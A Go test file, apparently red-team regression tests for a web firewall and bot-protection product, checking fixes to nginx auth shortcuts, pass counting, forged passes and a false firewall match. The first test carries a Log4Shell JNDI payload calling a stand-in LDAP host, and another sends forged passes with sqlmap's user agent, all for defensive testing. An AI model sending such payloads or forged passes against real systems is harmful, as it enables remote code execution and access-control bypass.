package redteam21

import (
	"fmt"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/palisadehq/palisade/internal/engine"
)

// TestFixed_GrantShortcutSkipsFullInspection: the shortcut 58fe984 put in
// both auth locations ("if ($palisade_action = "grant") { return 204; }")
// takes a grant of /_palisade/auth-static — which passes Palisade ONLY the
// grant cache's key headers — as the verdict for the request after an
// internal redirect into a location that palisade.conf inspects in full.
// A site's everyday server-wide "error_page 404 /index.php" (its
// application renders "not found") is such a redirect: a missing file
// of a palisade-static.conf location, requested with a Log4Shell payload in
// X-Api-Version and the header a tenant's own deny rule names (X-Debug),
// reached the application with both headers. Fixed: /_palisade/auth
// answers at once only after a grant of its own (X-Palisade-Granted: all,
// which only /forward-auth/nginx sends). Control: the same request to
// a page is refused (403), and with the shortcut deleted (the snippets
// before 58fe984) the application never sees it.
func TestFixed_GrantShortcutSkipsFullInspection(t *testing.T) {
	payload := "X-Api-Version: ${jndi:ldap://203.0.113.1/a}\r\nX-Debug: 1\r\n"
	run := func(edit func(string) string) (pageCode, fileCode int, fileBody string, seen []string) {
		r := newPassRig(t)
		w := r.pal.Website(t, "rules.example.com", remoteVisitors(engine.Settings{Rules: []engine.Rule{
			{Name: "No debug", Action: "deny", Conditions: []engine.Condition{{Field: "header", Header: "X-Debug", Op: "contains", Value: "1"}}}}}))
		port := freePort(t)
		addr := r.start(t, port, passSite(port, "rules.example.com", w.ServerKey, r.root, r.appURL), edit)
		pageCode, _, _ = send(t, addr, "GET", "rules.example.com", "/shop", browserHeaders(chromeUA)+payload)
		fileCode, fileBody, _ = send(t, addr, "GET", "rules.example.com", "/no-such-file.css", browserHeaders(chromeUA)+payload)
		return pageCode, fileCode, fileBody, r.app.got()
	}
	// Control: the snippets without the shortcuts.
	if page, file, body, seen := run(withoutShortcuts); page != 403 || len(seen) != 0 {
		t.Fatalf("control (no shortcut): page %d, missing file %d %.60q, the application saw %q; want 403 and nothing seen", page, file, body, seen)
	}
	page, file, body, seen := run(nil)
	if page != 403 {
		t.Errorf("the page with the payload: %d, want 403", page)
	}
	if len(seen) != 0 {
		t.Errorf("a missing file with a Log4Shell header and the header of a deny rule: %d %.60q, and the application received %q (the shortcut took the static location's key-headers-only grant for the redirect to /index.php)", file, body, seen)
	}
}

// TestFixed_AssetPassDoubleCounts: a file served on a pass was counted
// twice when nginx redirected the request internally within the files'
// locations (an image falling back to a placeholder: try_files $uri
// /img/placeholder.png), and so was a grant from the cache followed by
// that redirect. Fixed: /_palisade/auth-static answers at once, without a
// report, after a grant or a pass of the same request ($palisade_passed),
// and a pass is reported by its own access_log on a set variable, not a
// map nginx caches for the request. A missing file answered by the
// application (error_page 404 /index.php) is judged twice by design: the
// files' location judged the grant cache's headers only, and the
// application's location must judge every header
// (TestFixed_GrantShortcutSkipsFullInspection); each judgement counts.
func TestFixed_AssetPassDoubleCounts(t *testing.T) {
	r := newPassRig(t)
	w := r.pal.Website(t, "count.example.com", remoteVisitors(engine.Settings{}))
	port := freePort(t)
	addr := r.start(t, port, passSite(port, "count.example.com", w.ServerKey, r.root, r.appURL), nil)
	bh := browserHeaders(chromeUA)
	measure := func(path, cookie string) (int64, int, string) {
		t.Helper()
		r.settle()
		before := r.counted(t, "count.example.com")
		code, body, _ := send(t, addr, "GET", "count.example.com", path, bh+cookie)
		r.settle()
		return r.counted(t, "count.example.com") - before, code, body
	}
	want := map[string]int64{"/img/logo.jpg": 1, "/img/missing.jpg": 1, "/missing.css": 2}
	for _, round := range []string{"without a pass", "without a pass, from the grant cache"} {
		for _, p := range []string{"/img/missing.jpg", "/missing.css"} {
			if n, code, body := measure(p, ""); n != want[p] {
				t.Errorf("%s %s: %d %.40q counted %d times, want %d", p, round, code, body, n, want[p])
			}
		}
	}
	pass := getPass(t, addr, "count.example.com")
	for _, p := range []string{"/img/logo.jpg", "/img/missing.jpg", "/missing.css"} {
		if n, code, body := measure(p, "Cookie: palisade_pass="+pass+"\r\n"); n != want[p] {
			t.Errorf("%s with a pass: %d %.40q counted %d times, want %d", p, code, body, n, want[p])
		}
	}
}

// TestFixed_CustomerMintsUncountedPasses: the pass's only secret is the
// website's server key, which the customer and its partner are shown. The
// customer's own application could set palisade_pass with a reason that is
// no category: files were then served without a verdict and their reuse
// reports skipped (unknown reason), uncounted in the usage the plan is
// priced on. Fixed: nginx takes "humans" as the only reason (the map, and
// secure_link_md5's expression), the one Palisade hands passes out under;
// a minted pass of another reason is no pass (sqlmap is refused, a browser
// asked about). What stays (docs/SECURITY.md): a customer holding the key
// can mint "humans" passes for its own visitors, so files of its own
// site's palisade-static.conf locations are served to them without a
// verdict until the expiry it chose; each is counted.
func TestFixed_CustomerMintsUncountedPasses(t *testing.T) {
	r := newPassRig(t)
	w := r.pal.Website(t, "mint.example.com", remoteVisitors(engine.Settings{}))
	port := freePort(t)
	addr := r.start(t, port, passSite(port, "mint.example.com", w.ServerKey, r.root, r.appURL), nil)
	exp := strconv.FormatInt(time.Now().Add(365*24*time.Hour).Unix(), 10)
	sqlmapUA := "sqlmap/1.7.2#stable (https://sqlmap.org)"
	for i, reason := range []string{"x", "verified_bots", "humans_"} {
		pass := mintPass(w.ServerKey, exp, reason, "127.0.0.1", "mint.example.com", sqlmapUA)
		if code, body, _ := send(t, addr, "GET", "mint.example.com", fmt.Sprintf("/page.css?%d", i), sqlmapHeaders+"Cookie: palisade_pass="+pass+"\r\n"); code != 403 {
			t.Errorf("sqlmap with a minted pass of reason %q: %d %.60q, want 403", reason, code, body)
		}
	}
	r.settle()
	before := r.counted(t, "mint.example.com")
	const n = 10
	for i := 0; i < n; i++ {
		pass := mintPass(w.ServerKey, exp, "humans", "127.0.0.1", "mint.example.com", chromeUA)
		if code, body, _ := send(t, addr, "GET", "mint.example.com", fmt.Sprintf("/page.css?m%d", i), browserHeaders(chromeUA)+"Cookie: palisade_pass="+pass+"\r\n"); code != 200 {
			t.Fatalf("a file with a minted humans pass: %d %.60q", code, body)
		}
	}
	r.settle()
	if got := r.counted(t, "mint.example.com") - before; got != n {
		t.Errorf("%d files served on minted humans passes, %d counted", n, got)
	}
}

// TestFixed_AssetPassTripsTheFirewall (fixed in 4e14ab2: the firewall does
// not inspect palisade_pass and palisade_clearance cookies of exactly the
// shape Palisade issues, internal/waf/owncookies.go): the pass cookie rides along on
// every later request of the browser, pages included, where the website
// firewall reads cookies. Its hash is base64url: '-' and '_' are in its
// alphabet, and a hash with "--" followed later by another '-' trips the
// Core Rule Set's SQL comment detection at paranoia 2: the browser's next
// page is denied (and recorded as an attack) until the pass expires. About
// 1 pass in 1,400 has that shape (simulated over random hashes), and every
// granted page hands out a new one. Here: a pass exactly as Palisade hands
// it out (the website's key, 127.0.0.1, Chrome, reason humans) for the
// first expiry in the next two days whose hash has that shape; at
// paranoia 1 the same cookie passes.
func TestFixed_AssetPassTripsTheFirewall(t *testing.T) {
	r := newPassRig(t)
	w := r.pal.Website(t, "pl2.example.com", remoteVisitors(engine.Settings{WAF: engine.WAFSettings{Paranoia: 2}}))
	port := freePort(t)
	addr := r.start(t, port, passSite(port, "pl2.example.com", w.ServerKey, r.root, r.appURL), nil)
	getPass(t, addr, "pl2.example.com") // a pass is handed out on this website
	comment := regexp.MustCompile(`--[^-]*-`)
	now := time.Now().Unix()
	pass := ""
	for e := now + 60; e < now+2*86400 && pass == ""; e++ {
		if p := mintPass(w.ServerKey, strconv.FormatInt(e, 10), "humans", "127.0.0.1", "pl2.example.com", chromeUA); comment.MatchString(strings.SplitN(p, ".", 2)[0]) {
			pass = p
		}
	}
	if pass == "" {
		t.Skip("no hash of that shape in two days of expiries")
	}
	code, body, _ := send(t, addr, "GET", "pl2.example.com", "/shop", browserHeaders(chromeUA)+"Cookie: palisade_pass="+pass+"\r\n")
	if code != 200 {
		t.Errorf("a browser's next page with the pass %s Palisade hands out: %d %.60q, want 200", pass, code, body)
	}
}
